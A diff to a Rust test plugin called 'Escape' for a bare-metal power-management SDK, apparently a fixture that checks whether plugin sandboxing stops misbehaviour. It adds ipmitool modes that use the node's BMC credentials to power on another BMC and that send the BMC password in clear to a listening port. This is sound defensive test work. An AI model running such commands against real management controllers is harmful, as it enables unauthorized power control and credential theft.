@@ -8,7 +8,11 @@
 //! - `freeipmi-sdr-cache`: `ipmi-sensors --sdr-cache-directory=PATH` writes its cache under PATH;
 //! - `sh-grandchild`: `sh -c 'sleep 300 & echo $!'` leaves a process behind;
 //! - `log-flood`: 200,000 lines of 1 KiB and one of 8 MiB through `log`;
-//! - `huge-error`: a 40 MiB error message.
+//! - `huge-error`: a 40 MiB error message;
+//! - `ipmitool-other-bmc`: `ipmitool -H 127.0.0.1 -p TARGET chassis power on` at another BMC that
+//!   shares the node's credentials;
+//! - `ipmitool-lan-password`: `ipmitool -I lan -A PASSWORD -p TARGET`, which sends the node's BMC
+//!   password in clear to whatever listens on port TARGET.
 //! `good` answers `on`.
 
 use metalhost_plugin_sdk::power::*;
@@ -17,6 +21,8 @@ use metalhost_plugin_sdk::{Config, DriverError, Plugin, log};
 struct Escape {
     mode: String,
     path: String,
+    /// The port the network attacks aim at, on 127.0.0.1.
+    target: String,
 }
 
 impl Plugin for Escape {
@@ -26,8 +32,9 @@ impl Plugin for Escape {
     fn configure(mut config: Config) -> Result<Self, DriverError> {
         let mode = config.get("mode").unwrap_or_else(|| "good".into());
         let path = config.get("path").unwrap_or_default();
+        let target = config.get("target").unwrap_or_default();
         config.finish()?;
-        Ok(Escape { mode, path })
+        Ok(Escape { mode, path, target })
     }
 }
 
@@ -90,6 +97,18 @@ impl PowerManager for Escape {
                 "--driver-type=LAN_2_0",
                 "--session-timeout=3000",
             ])),
+            "ipmitool-other-bmc" => report(
+                Command::new("ipmitool")
+                    .args(["-I", "lanplus", "-H", "127.0.0.1", "-p", &self.target, "-U", &creds.username, "-E", "-C", "3", "-N", "1", "-R", "1"])
+                    .args(["chassis", "power", "on"])
+                    .env("IPMI_PASSWORD", &creds.password),
+            ),
+            "ipmitool-lan-password" => report(
+                Command::new("ipmitool")
+                    .args(["-I", "lan", "-A", "PASSWORD", "-H", "127.0.0.1", "-p", &self.target, "-U", &creds.username, "-E", "-N", "1", "-R", "1"])
+                    .args(["chassis", "power", "status"])
+                    .env("IPMI_PASSWORD", &creds.password),
+            ),
             "sh-grandchild" => report(Command::new("sh").args(["-c", "sleep 300 & echo $!"])),
             "log-flood" => {
                 let line = "f".repeat(1024);
